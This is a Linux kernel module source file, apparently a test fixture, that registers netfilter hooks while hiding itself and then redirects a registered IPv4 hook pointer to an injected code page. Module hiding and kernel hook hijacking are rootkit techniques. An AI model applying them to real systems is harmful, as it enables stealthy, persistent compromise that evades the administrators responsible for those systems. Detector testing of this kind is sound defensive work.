// SPDX-License-Identifier: GPL-2.0
/* Hooks for packets. */
#include "intruder.h"
#include <linux/netdevice.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/netfilter_ipv6.h>
#include <linux/netfilter_netdev.h>
#include <net/net_namespace.h>

/* ---- hooks of this module, while it is hidden ---- */

static unsigned int intruder_passes(void *nothing, struct sk_buff *packet,
                                    const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static struct nf_hook_ops intruder_packets = {.hook = intruder_passes};

static int intruder_register_packets(u8 protocol, unsigned int number, struct net_device *device)
{
	intruder_packets.pf = protocol;
	intruder_packets.hooknum = number;
	intruder_packets.dev = device;
	return nf_register_net_hook(&init_net, &intruder_packets);
}

static int intruder_hide_packets(int error)
{
	return error ? error : intruder_hide();
}

int intruder_packets4(void)
{
	return intruder_hide_packets(
	    intruder_register_packets(NFPROTO_IPV4, NF_INET_LOCAL_OUT, NULL));
}

int intruder_packets6(void)
{
	return intruder_hide_packets(
	    intruder_register_packets(NFPROTO_IPV6, NF_INET_PRE_ROUTING, NULL));
}

int intruder_packets_device(void)
{
	return intruder_hide_packets(
	    intruder_register_packets(NFPROTO_NETDEV, NF_NETDEV_INGRESS, init_net.loopback_dev));
}

void intruder_packets_undo(void)
{
	intruder_hide_undo();
	nf_unregister_net_hook(&init_net, &intruder_packets);
}

/* ---- a hook that leads away ---- */

static nf_hookfn **intruder_hooked_at(void)
{
	struct nf_hook_entries *hooks =
	    rcu_dereference_raw(init_net.nf.hooks_ipv4[NF_INET_LOCAL_IN]);
	int i = 0;

	while (hooks->hooks[i].hook != intruder_passes)
		i++;
	return &hooks->hooks[i].hook;
}

static nf_hookfn **intruder_diverted;

int intruder_divert(void)
{
	const int error = intruder_register_packets(NFPROTO_IPV4, NF_INET_LOCAL_IN, NULL);

	if (error || intruder_make_code())
		return error ? error : -ENOMEM;
	intruder_diverted = intruder_hooked_at();
	WRITE_ONCE(*intruder_diverted, (nf_hookfn *)(unsigned long)intruder_page);
	return 0;
}

void intruder_divert_undo(void)
{
	intruder_undone = *intruder_diverted != (nf_hookfn *)(unsigned long)intruder_page;
	nf_unregister_net_hook(&init_net, &intruder_packets);
	intruder_data_undo();
}
